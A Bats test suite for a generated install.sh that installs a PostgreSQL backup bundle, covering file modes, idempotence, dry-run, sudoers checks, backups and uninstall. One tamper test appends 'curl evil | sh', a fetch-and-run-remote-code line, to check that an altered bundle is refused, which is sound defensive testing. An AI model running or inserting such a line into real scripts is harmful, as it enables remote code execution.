#!/usr/bin/env bats
# The generated install.sh, run for real as root against install roots in a scratch dir
# (--root): what lands where with which mode and owner, idempotence, --dry-run, the sudoers
# checks, backups outside live directories, --uninstall. The live-system pull user path runs
# against this machine with a uniquely named user that teardown removes.

setup_file() {
  load helpers/common
  pgb_require_root
  pgb_scratch_init
  export SRV="pgbinst-$$"
  export DEV="pgbinst-dev-$$"
  export PULL_USER="pgbinst$$"
  export GEN="${PGB_T}/gen"
  cat >"${PGB_T}/pgb.config.yaml" <<EOF
version: 1
servers:
  - name: ${SRV}
    ssh: { user: ${PULL_USER} }
    paths:
      backupMount: /mnt/backup
      artifacts: /mnt/backup/postgres
      configArtifacts: /mnt/backup/config
    services:
      - { name: service_a, port: 5433, pgVersion: 17 }
      - { name: service_b, port: 5434, pgVersion: 17, wal: false }
devs:
  - name: ${DEV}
    pullFrom: [${SRV}]
EOF
  pgb_generate "${PGB_T}/pgb.config.yaml" "${GEN}" >/dev/null
  export BUNDLE="${GEN}/${SRV}"
  export DEV_BUNDLE="${GEN}/${DEV}"
  export SUDOERS_DEST="/etc/sudoers.d/pgb-pull-${SRV}"
}

teardown_file() {
  load helpers/common
  if [[ -n "${PULL_USER:-}" ]]; then
    pgb_remove_user "${PULL_USER}" -r
  fi
  pgb_teardown_all
}

setup() {
  load helpers/common
  pgb_load_bats_libs
  R="$(mktemp -d "${PGB_T}/root.XXXXXX")"
}

# Every entry of a bundle's MANIFEST: mode owner group dest sha256.
manifest_lines() {
  cat "$1/MANIFEST"
}

# Names, types, modes, owners, sizes, mtimes and ctimes of everything below a root.
root_state() {
  (cd "$1" && find . -printf '%p %y %m %u %g %s %T@ %C@\n' | sort)
}

# A bundle copy whose sudoers file gets LINE appended, with a MANIFEST that matches it.
broken_bundle() {
  local copy="$1" line="$2" sha
  mkdir -p "${copy}"
  cp -a "${BUNDLE}/." "${copy}/"
  printf '%s\n' "${line}" >>"${copy}/root${SUDOERS_DEST}"
  sha="$(sha256sum <"${copy}/root${SUDOERS_DEST}" | cut -d' ' -f1)"
  sed -i "s|^\(0440 root root ${SUDOERS_DEST}\) .*$|\1 ${sha}|" "${copy}/MANIFEST"
}

@test "--dry-run prints every action and changes nothing" {
  run "${BUNDLE}/install.sh" --dry-run --root "${R}"
  assert_success
  local mode owner group dest sha
  while read -r mode owner group dest sha; do
    assert_output --partial "[dry-run] would install ${R}${dest} (mode ${mode}, ${owner}:${group})"
  done < <(manifest_lines "${BUNDLE}")
  assert_output --partial "would create directory ${R}/mnt/backup/postgres (mode 0750)"
  assert_output --partial "would create empty secret file ${R}/etc/borg/pg-borg.env (mode 0600)"
  assert_output --partial 'nothing was changed'
  run find "${R}" -mindepth 1
  assert_output ''
}

@test "install places every MANIFEST file with its mode, owner and exact content, plus dirs and empty secrets" {
  run "${BUNDLE}/install.sh" --root "${R}"
  assert_success
  local mode owner group dest sha count=0
  while read -r mode owner group dest sha; do
    assert [ -f "${R}${dest}" ]
    assert_equal "$(stat -c '%04a %U %G' "${R}${dest}")" "${mode} ${owner} ${group}"
    assert_equal "$(sha256sum <"${R}${dest}" | cut -d' ' -f1)" "${sha}"
    cmp -s "${R}${dest}" "${BUNDLE}/root${dest}"
    count=$((count + 1))
  done < <(manifest_lines "${BUNDLE}")
  (( count >= 10 ))
  # Nothing besides the MANIFEST files, the dirs and the secrets was created.
  assert_equal "$(find "${R}" -type f | wc -l)" "$((count + 2))"
  assert_equal "$(stat -c '%04a %U' "${R}${SUDOERS_DEST}")" "0440 root"
  assert_equal "$(stat -c '%04a' "${R}/mnt/backup/postgres" "${R}/mnt/backup/postgres/basebackups" "${R}/mnt/backup/config")" \
    "$(printf '0750\n0750\n0750')"
  assert_equal "$(stat -c '%04a %U %s' "${R}/etc/borg/pg-borg.env" "${R}/etc/pg_backup/repl_password")" \
    "$(printf '0600 root 0\n0600 root 0')"
  assert_output --partial "create empty secret file ${R}/etc/borg/pg-borg.env (mode 0600)"
  # With --root nothing is done to this machine's users or systemd, and it says so.
  assert_output --partial "(--root) not creating or checking the pull user ${PULL_USER}"
  assert_output --partial 'not running systemctl daemon-reload, systemctl enable --now pg-backup-all.timer'
  refute getent passwd "${PULL_USER}"
  run visudo -cf "${R}${SUDOERS_DEST}"
  assert_success
}

@test "every line install.sh prints carries a UTC stamp and a level, in every mode" {
  "${BUNDLE}/install.sh" --dry-run --root "${R}" >"${PGB_T}/logs/dry.log" 2>&1
  "${BUNDLE}/install.sh" --root "${R}" >"${PGB_T}/logs/install.log" 2>&1
  "${BUNDLE}/install.sh" --root "${R}" --uninstall >"${PGB_T}/logs/uninstall.log" 2>&1
  assert_log_lines_stamped "${PGB_T}/logs/dry.log"
  assert_log_lines_stamped "${PGB_T}/logs/install.log"
  assert_log_lines_stamped "${PGB_T}/logs/uninstall.log"
}

@test "a second run changes nothing and says so" {
  "${BUNDLE}/install.sh" --root "${R}" >/dev/null
  local before
  before="$(root_state "${R}")"
  sleep 1
  run "${BUNDLE}/install.sh" --root "${R}"
  assert_success
  assert_output --partial 'nothing to change'
  refute_output --regexp 'install |replace |back up '
  assert_equal "$(root_state "${R}")" "${before}"
  # A dry run over the installed root agrees.
  run "${BUNDLE}/install.sh" --root "${R}" --dry-run
  assert_success
  assert_output --partial 'nothing to change'
}

@test "an edited or re-moded file is restored; the old version is backed up outside the live dirs" {
  "${BUNDLE}/install.sh" --root "${R}" >/dev/null
  local unit="/etc/systemd/system/pg-backup-all.service"
  printf '# local edit\n' >>"${R}${unit}"
  printf '# local edit\n' >>"${R}${SUDOERS_DEST}"
  chmod 0777 "${R}/usr/local/sbin/pg_backup_all.sh"
  run "${BUNDLE}/install.sh" --root "${R}"
  assert_success
  assert_output --partial "replace ${R}${unit}"
  assert_output --partial "set mode 0750 owner root:root on ${R}/usr/local/sbin/pg_backup_all.sh"
  cmp "${R}${unit}" "${BUNDLE}/root${unit}"
  cmp "${R}${SUDOERS_DEST}" "${BUNDLE}/root${SUDOERS_DEST}"
  assert_equal "$(stat -c '%04a' "${R}/usr/local/sbin/pg_backup_all.sh")" 0750
  # Backups: under /var/backups/pgb-gen/<UTC stamp>/, with the edited content, root-only.
  local backups
  backups="$(find "${R}/var/backups/pgb-gen" -mindepth 1 -maxdepth 1 -type d)"
  assert_equal "$(wc -l <<<"${backups}")" 1
  [[ "${backups##*/}" =~ ^[0-9]{8}T[0-9]{6}Z$ ]]
  assert_equal "$(stat -c '%04a' "${R}/var/backups/pgb-gen")" 0700
  run tail -n 1 "${backups}${unit}"
  assert_output '# local edit'
  run tail -n 1 "${backups}${SUDOERS_DEST}"
  assert_output '# local edit'
  # The live sudoers dir holds only the drop-in: no backup, no staged copy for sudo to read.
  run ls -A "${R}/etc/sudoers.d"
  assert_output "pgb-pull-${SRV}"
}

@test "a broken sudoers file is refused by visudo and never goes live; nothing else is installed" {
  local copy="${PGB_T}/broken.$$" typo="${PGB_T}/typo.$$"
  broken_bundle "${copy}" "${PULL_USER} ALL=(root NOPASSWD: /usr/bin/rsync"
  broken_bundle "${typo}" "${PULL_USER} ALL=(root) NOPASSWD: PGB_PULL_TYPO"
  run "${copy}/install.sh" --root "${R}"
  assert_failure
  assert_output --partial 'syntax error'
  assert_output --partial "visudo refuses root${SUDOERS_DEST}; nothing changed"
  run find "${R}" -mindepth 1
  assert_output ''
  # An undefined alias is only a warning for plain visudo -c: install.sh checks strictly.
  run "${typo}/install.sh" --root "${R}"
  assert_failure
  assert_output --partial 'PGB_PULL_TYPO'
  run find "${R}" -mindepth 1
  assert_output ''
  # Over an installed root, the good drop-in stays as it was.
  "${BUNDLE}/install.sh" --root "${R}" >/dev/null
  local before
  before="$(root_state "${R}")"
  run "${copy}/install.sh" --root "${R}"
  assert_failure
  cmp "${R}${SUDOERS_DEST}" "${BUNDLE}/root${SUDOERS_DEST}"
  assert_equal "$(root_state "${R}")" "${before}"
}

@test "a bundle file that does not match its MANIFEST sha256 is refused before anything changes" {
  local copy="${PGB_T}/tampered.$$"
  mkdir -p "${copy}"
  cp -a "${BUNDLE}/." "${copy}/"
  printf 'curl evil | sh\n' >>"${copy}/root/usr/local/sbin/pg_backup_all.sh"
  run "${copy}/install.sh" --root "${R}"
  assert_failure
  assert_output --partial 'does not match its MANIFEST sha256'
  run find "${R}" -mindepth 1
  assert_output ''
}

@test "secret files are created empty once and never overwritten" {
  "${BUNDLE}/install.sh" --root "${R}" >/dev/null
  printf 'BORG_PASSPHRASE=correct horse\n' >"${R}/etc/borg/pg-borg.env"
  run "${BUNDLE}/install.sh" --root "${R}"
  assert_success
  assert_equal "$(cat "${R}/etc/borg/pg-borg.env")" 'BORG_PASSPHRASE=correct horse'
  refute_output --partial 'correct horse'
  assert_output --partial 'nothing to change'
  chmod 0644 "${R}/etc/borg/pg-borg.env"
  run "${BUNDLE}/install.sh" --root "${R}"
  assert_output --partial "has mode 644"
  assert_equal "$(cat "${R}/etc/borg/pg-borg.env")" 'BORG_PASSPHRASE=correct horse'
}

@test "--uninstall removes exactly the MANIFEST files: not secrets, not data, not foreign files" {
  "${BUNDLE}/install.sh" --root "${R}" >/dev/null
  printf 'BORG_PASSPHRASE=x\n' >"${R}/etc/borg/pg-borg.env"
  printf 'data\n' >"${R}/mnt/backup/postgres/keep-me"
  printf '[Service]\nExecStart=/bin/true\n' >"${R}/etc/systemd/system/foreign.service"
  printf '# changed after install\n' >>"${R}/etc/systemd/system/pg-backup-all.timer"
  run "${BUNDLE}/install.sh" --root "${R}" --uninstall --dry-run
  assert_success
  assert [ -f "${R}${SUDOERS_DEST}" ]
  run "${BUNDLE}/install.sh" --root "${R}" --uninstall
  assert_success
  local mode owner group dest sha
  while read -r mode owner group dest sha; do
    assert [ ! -e "${R}${dest}" ]
  done < <(manifest_lines "${BUNDLE}")
  assert [ -f "${R}/etc/borg/pg-borg.env" ]
  assert [ -f "${R}/etc/pg_backup/repl_password" ]
  assert [ -f "${R}/mnt/backup/postgres/keep-me" ]
  assert [ -f "${R}/etc/systemd/system/foreign.service" ]
  # The locally changed file was kept in a backup before removal.
  run find "${R}/var/backups/pgb-gen" -name pg-backup-all.timer
  assert_success
  assert_equal "$(tail -n 1 "${output}")" '# changed after install'
  # Exactly the MANIFEST files are gone: the remaining files are the ones install.sh did not own.
  assert_equal "$(find "${R}" -type f ! -path '*/var/backups/*' | sed "s|^${R}||" | sort)" \
    "$(printf '/etc/borg/pg-borg.env\n/etc/pg_backup/repl_password\n/etc/systemd/system/foreign.service\n/mnt/backup/postgres/keep-me')"
}

@test "the dev bundle installs its script, units and private pull dirs" {
  run "${DEV_BUNDLE}/install.sh" --root "${R}"
  assert_success
  assert [ -f "${R}/usr/local/sbin/pull-server-backups.sh" ]
  assert [ -f "${R}/etc/systemd/system/pull-server-backups.timer" ]
  assert_equal "$(stat -c '%04a' "${R}/mnt/upload" "${R}/mnt/upload/${SRV}")" "$(printf '0700\n0700')"
  assert [ ! -e "${R}/etc/sudoers.d" ]
  run "${DEV_BUNDLE}/install.sh" --root "${R}"
  assert_output --partial 'nothing to change'
}

@test "on a live system the pull user is created with /bin/sh, and another shell is reported" {
  # The installer's own function, run against this machine (no --root) with a unique user name.
  run bash -c 'source "$1" && ROOT="" DRY_RUN=0 && ensure_pull_user' _ "${BUNDLE}/install.sh"
  assert_success
  assert_output --partial "create the pull user ${PULL_USER}"
  run getent passwd "${PULL_USER}"
  assert_output --regexp ':/bin/sh$'
  # Not locked: sshd without PAM refuses key logins of accounts whose password starts with "!".
  assert_equal "$(getent shadow "${PULL_USER}" | cut -d: -f2)" '*'
  run bash -c 'source "$1" && ROOT="" DRY_RUN=0 && ensure_pull_user' _ "${BUNDLE}/install.sh"
  refute_output --partial 'create the pull user'
  usermod -s /bin/bash "${PULL_USER}"
  run bash -c 'source "$1" && ROOT="" DRY_RUN=0 && ensure_pull_user' _ "${BUNDLE}/install.sh"
  assert_output --partial "has shell /bin/bash, not /bin/sh"
}
